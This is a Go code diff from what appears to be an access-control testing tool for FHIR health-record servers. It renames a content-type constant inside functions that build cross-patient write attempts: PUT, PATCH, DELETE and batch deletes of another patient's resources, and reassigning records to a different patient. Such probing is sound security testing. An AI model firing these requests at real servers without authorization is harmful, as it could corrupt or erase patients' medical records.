@@ -19,7 +19,6 @@ import (
 // is undone.
 
 const (
-	fhirJSON  = "application/fhir+json"
 	patchJSON = "application/json-patch+json"
 )
 
@@ -84,14 +83,14 @@ func (a *attack) writes(ctx context.Context) ([]Family, error) {
 // against makes the attempts at one of the other patient's resources.
 func (a *attack) against(t original) []attempt {
 	at := t.typ + "/" + t.id
-	match := http.Header{"Content-Type": {fhirJSON}, "If-Match": {`W/"` + t.version + `"`}}
+	match := http.Header{"Content-Type": {fhir.JSON}, "If-Match": {`W/"` + t.version + `"`}}
 	patch := http.Header{"Content-Type": {patchJSON}, "If-Match": {`W/"` + t.version + `"`}}
 	const language = `[{"op":"add","path":"/language","value":"x-portico-verify"}]`
 	mine := string(bytes.ReplaceAll(t.raw, []byte("Patient/"+a.o.Not), []byte("Patient/"+a.o.As)))
 	changed := `{"language":"x-portico-verify",` + strings.TrimPrefix(strings.TrimSpace(string(t.raw)), "{")
 	query := "?_id=" + t.id
 	create := func(body string, header ...string) request {
-		h := http.Header{"Content-Type": {fhirJSON}}
+		h := http.Header{"Content-Type": {fhir.JSON}}
 		for i := 0; i+1 < len(header); i += 2 {
 			h.Set(header[i], header[i+1])
 		}
@@ -111,7 +110,7 @@ func (a *attack) against(t original) []attempt {
 		{29, at, request{method: http.MethodPut, target: "/" + at, body: mine, header: match}},
 		{29, at, request{method: http.MethodPut, target: "/" + at, body: changed, header: match}},
 		{29, at, request{method: http.MethodDelete, target: "/" + at, header: match}},
-		{29, at, request{method: http.MethodPost, target: "/", header: http.Header{"Content-Type": {fhirJSON}}, body: `{"resourceType":"Bundle","type":"batch","entry":[{"request":{"method":"DELETE","url":"` + at + `","ifMatch":"W/\"` + t.version + `\""}}]}`}},
+		{29, at, request{method: http.MethodPost, target: "/", header: http.Header{"Content-Type": {fhir.JSON}}, body: `{"resourceType":"Bundle","type":"batch","entry":[{"request":{"method":"DELETE","url":"` + at + `","ifMatch":"W/\"` + t.version + `\""}}]}`}},
 	}
 	for _, id := range a.victim.identifiers[:min(1, len(a.victim.identifiers))] {
 		out = append(out, attempt{15, "", create(string(t.raw), "If-None-Exist", "identifier="+url.QueryEscape(id.system+"|"+id.value), "Prefer", "return=representation")})
@@ -126,12 +125,12 @@ func (a *attack) away(own original) []attempt {
 		return nil
 	}
 	theirs := strings.ReplaceAll(string(own.raw), "Patient/"+a.o.As, "Patient/"+a.o.Not)
-	header := http.Header{"Content-Type": {fhirJSON}, "If-Match": {`W/"` + own.version + `"`}}
+	header := http.Header{"Content-Type": {fhir.JSON}, "If-Match": {`W/"` + own.version + `"`}}
 	patch := http.Header{"Content-Type": {patchJSON}, "If-Match": {`W/"` + own.version + `"`}}
 	return []attempt{
 		{29, at, request{method: http.MethodPut, target: "/" + at, body: theirs, header: header}},
 		{29, at, request{method: http.MethodPatch, target: "/" + at, body: `[{"op":"add","path":"/subject","value":{"reference":"Patient/` + a.o.Not + `"}}]`, header: patch}},
-		{28, "", request{method: http.MethodPost, target: "/" + own.typ, body: theirs, header: http.Header{"Content-Type": {fhirJSON}}}},
+		{28, "", request{method: http.MethodPost, target: "/" + own.typ, body: theirs, header: http.Header{"Content-Type": {fhir.JSON}}}},
 	}
 }
 
